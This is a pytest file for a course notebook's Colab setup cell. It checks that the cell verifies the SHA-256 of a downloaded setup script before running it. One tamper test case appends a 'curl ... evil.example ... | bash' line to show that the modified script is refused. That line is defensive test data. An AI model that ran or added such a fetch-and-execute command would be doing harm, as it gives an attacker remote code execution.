"""The notebooks' setup cell: on Colab it fetches colab_setup.sh, checks its SHA-256 and runs
it; a script that does not match, or an empty repository field, stops with one line;
elsewhere it does nothing. (tests/test_colab_notebook.py runs a committed notebook's cell
as Colab would, through a real install.)

Runs the cell in a real IPython shell (the `!` line is IPython syntax) with the download
replaced by a fake ``urlopen``, so no network is needed; the script itself runs in bash.
"""

from __future__ import annotations

import hashlib
import urllib.request

import pytest
from IPython.core.interactiveshell import InteractiveShell

from course_utils.colab import setup_cell_source

GOOD = 'echo "$COURSE_REPO@$COURSE_REF" > "$RAN_LOG"\n'
GOOD_SHA = hashlib.sha256(GOOD.encode()).hexdigest()
URL = "https://raw.githubusercontent.com/teacher/fork/v2/colab_setup.sh"


def sha(text):
    return hashlib.sha256(text.encode()).hexdigest()


@pytest.fixture
def served(tmp_path, monkeypatch):
    """What the fake download serves (``served["script"]``) and the URLs it was asked for."""
    state = {"script": GOOD, "urls": []}

    class Response:
        def read(self):
            return state["script"].encode()

    def fake_urlopen(url, timeout=None):
        state["urls"].append(url)
        return Response()

    monkeypatch.setattr(urllib.request, "urlopen", fake_urlopen)
    monkeypatch.setenv("RAN_LOG", str(tmp_path / "ran.log"))
    monkeypatch.delenv("COLAB_RELEASE_TAG", raising=False)
    return state


@pytest.fixture
def shell():
    shell = InteractiveShell.instance()
    yield shell
    InteractiveShell.clear_instance()


def run_setup_cell(shell, repo="teacher/fork", ref="v2", sha256=GOOD_SHA):
    return shell.run_cell(setup_cell_source(repo, ref, sha256), silent=True)


def one_line_error(result):
    assert not result.success
    assert isinstance(result.error_in_exec, RuntimeError)
    message = str(result.error_in_exec)
    assert "\n" not in message
    return message


def test_off_colab_the_cell_does_nothing(shell, served, tmp_path):
    assert run_setup_cell(shell).success
    assert run_setup_cell(shell, "", "main").success
    assert served["urls"] == [] and not (tmp_path / "ran.log").exists()


def test_on_colab_the_cell_runs_the_script_whose_hash_it_carries(
    shell, served, tmp_path, monkeypatch
):
    monkeypatch.setenv("COLAB_RELEASE_TAG", "release-test")
    result = run_setup_cell(shell)
    assert result.success, result.error_in_exec
    assert served["urls"] == [URL]
    assert (tmp_path / "ran.log").read_text().strip() == "teacher/fork@v2"


@pytest.mark.parametrize(
    "tampered",
    [GOOD + "curl https://evil.example/x | bash\n", GOOD.replace("echo", "echo "), ""],
    ids=["appended", "one-byte", "empty"],
)
def test_on_colab_a_tampered_script_is_refused_and_never_runs(
    shell, served, tmp_path, monkeypatch, tampered
):
    monkeypatch.setenv("COLAB_RELEASE_TAG", "release-test")
    served["script"] = tampered
    message = one_line_error(run_setup_cell(shell))
    assert message.startswith(f"Colab setup: refused to run {URL}: its SHA-256 is not SETUP_SHA256")
    assert not (tmp_path / "ran.log").exists()


def test_on_colab_an_unconfigured_copy_says_so_in_one_line_and_downloads_nothing(
    shell, served, tmp_path, monkeypatch
):
    monkeypatch.setenv("COLAB_RELEASE_TAG", "release-test")
    message = one_line_error(run_setup_cell(shell, "", "main"))
    assert message.startswith("Colab setup: type the GitHub repository") and "OWNER/NAME" in message
    assert served["urls"] == [] and not (tmp_path / "ran.log").exists()


def test_on_colab_a_failing_setup_stops_the_notebook(shell, served, monkeypatch):
    monkeypatch.setenv("COLAB_RELEASE_TAG", "release-test")
    served["script"] = "echo 'colab_setup.sh: error: boom' >&2; exit 3\n"
    result = run_setup_cell(shell, sha256=sha(served["script"]))
    assert one_line_error(result) == "Colab setup failed: read the messages above"
